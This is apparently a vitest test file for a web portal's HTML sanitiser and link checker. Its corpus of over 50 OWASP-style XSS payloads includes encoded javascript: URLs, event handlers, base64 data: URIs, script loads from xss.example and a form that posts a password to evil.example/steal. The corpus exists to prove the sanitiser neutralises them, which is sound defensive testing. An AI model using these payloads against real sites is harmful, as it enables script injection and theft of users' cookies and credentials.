import { describe, expect, it } from "vitest";
import { safeHref, safeHtml } from "./html.server";

// Filter-evasion payloads in the style of the OWASP XSS cheat sheet: each must come out inert.
const PAYLOADS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>`,
  `<a href="jav\tascript:alert('XSS');">tab</a>`,
  `<a href="jav&#x09;ascript:alert('XSS');">encoded tab</a>`,
  `<a href="jav&#x0A;ascript:alert('XSS');">newline</a>`,
  `<a href=" &#14;  javascript:alert('XSS');">leading</a>`,
  `<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//<</SCRIPT>`,
  `<SCRIPT SRC=https://xss.example/xss.js?< B >`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<svg/onload=alert('XSS')>`,
  `<svg><script>alert(1)</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<STYLE>@import'https://xss.example/xss.css';</STYLE>`,
  `<p STYLE="background-image:url(javascript:alert('XSS'))">styled</p>`,
  `<DIV STYLE="width: expression(alert('XSS'));">expr</DIV>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')"><tr><td BACKGROUND="javascript:alert('XSS')">cell</td></tr></TABLE>`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4K" type="image/svg+xml"></EMBED>`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  `<a href="vbscript:msgbox('XSS')">vb</a>`,
  `<a href="//evil.example/path">protocol-relative</a>`,
  `<a href="/\\evil.example">backslash host</a>`,
  `<a href="https://ok.example" onclick="alert(1)" target="_top">click</a>`,
  `<template><script>alert(1)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`,
  `<a href="clickable:tariffs&quot; onclick=&quot;alert(1)">tracked with a quote</a>`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
];

const ALLOWED_TAGS = new Set([
  "p",
  "br",
  "b",
  "strong",
  "i",
  "em",
  "u",
  "s",
  "sub",
  "sup",
  "span",
  "div",
  "blockquote",
  "hr",
  "ul",
  "ol",
  "li",
  "h2",
  "h3",
  "h4",
  "h5",
  "h6",
  "table",
  "thead",
  "tbody",
  "tr",
  "th",
  "td",
  "a",
]);
const ALLOWED_ATTRIBUTES = new Set(["href", "rel", "colspan", "rowspan"]);

/** Every tag the sanitiser let through, with its attributes (its output is well-formed, so a scan is exact). */
function tags(html: string) {
  return [...html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)([^>]*)>/g)].map(([, name, rest]) => ({
    name: name!.toLowerCase(),
    attributes: [...rest!.matchAll(/([^\s=]+)="([^"]*)"/g)].map(([, key, value]) => ({
      key: key!.toLowerCase(),
      value: value!,
    })),
  }));
}

describe("safeHtml", () => {
  it("has a corpus of at least 40 payloads", () => expect(PAYLOADS.length).toBeGreaterThanOrEqual(40));

  it.each(PAYLOADS)("leaves %s inert", (payload) => {
    const out = safeHtml(payload);
    for (const tag of tags(out)) {
      expect(ALLOWED_TAGS, `${tag.name} in ${out}`).toContain(tag.name);
      for (const { key, value } of tag.attributes) {
        expect(ALLOWED_ATTRIBUTES, `${key} in ${out}`).toContain(key);
        if (key === "href") expect(safeHref(value.replace(/&amp;/g, "&")), out).toBe(value.replace(/&amp;/g, "&"));
      }
    }
    // Text that survives is escaped: nothing outside a tag can open one.
    expect(out.replace(/<\/?[a-zA-Z][^>]*>/g, ""), out).not.toMatch(/</);
    expect(out.toLowerCase(), out).not.toMatch(/javascript:|vbscript:|data:|on[a-z]+=|style=|srcdoc/);
  });

  it("keeps an editor's formatting and text", () => {
    expect(safeHtml("<p>С <b>5</b> по <i>8</i>&nbsp;число</p><ul><li>паспорт</li></ul>")).toBe(
      "<p>С <b>5</b> по <i>8</i>\u00a0число</p><ul><li>паспорт</li></ul>",
    );
    expect(safeHtml("<h1>Заголовок</h1>")).toBe("<h2>Заголовок</h2>");
    expect(safeHtml(`<img src="x.png">текст`)).toBe("текст");
    expect(safeHtml(null)).toBe("");
  });

  it("keeps safe links, with rel, and drops the address of an unsafe one", () => {
    expect(safeHtml(`<a href="https://uk-demo.ru/x" target="_blank">x</a>`)).toBe(
      `<a href="https://uk-demo.ru/x" rel="noopener noreferrer">x</a>`,
    );
    expect(safeHtml(`<a href="/meters">Показания</a>`)).toBe(
      `<a href="/meters" rel="noopener noreferrer">Показания</a>`,
    );
    expect(safeHtml(`<a href="mailto:uk@demo.ru">m</a><a href="tel:+74950000000">t</a>`)).toContain(
      `href="tel:+74950000000"`,
    );
    expect(safeHtml(`<a href="javascript:alert(1)">x</a>`)).toBe("<a>x</a>");
  });

  it("sends a tracked link through the portal's redirect route", () => {
    expect(safeHtml(`<a href="clickable:tariffs">тарифы</a>`)).toBe(
      `<a href="/link/tariffs" rel="noopener noreferrer">тарифы</a>`,
    );
    expect(safeHtml(`<a href="clickable:../admin">x</a>`)).toBe("<a>x</a>");
  });
});

describe("safeHref", () => {
  it.each([
    ["https://a.example/", "https://a.example/"],
    ["http://a.example/", "http://a.example/"],
    ["mailto:a@b.ru", "mailto:a@b.ru"],
    ["tel:+7900", "tel:+7900"],
    ["/news/1", "/news/1"],
    ["clickable:app-android", "/link/app-android"],
    [" java\nscript:alert(1)", null],
    ["JAVASCRIPT:alert(1)", null],
    ["//evil.example", null],
    ["/\\evil.example", null],
    ["ftp://a.example", null],
    ["news/1", null],
    ["", null],
    [undefined, null],
  ])("%s → %s", (raw, expected) => expect(safeHref(raw)).toBe(expected));
});
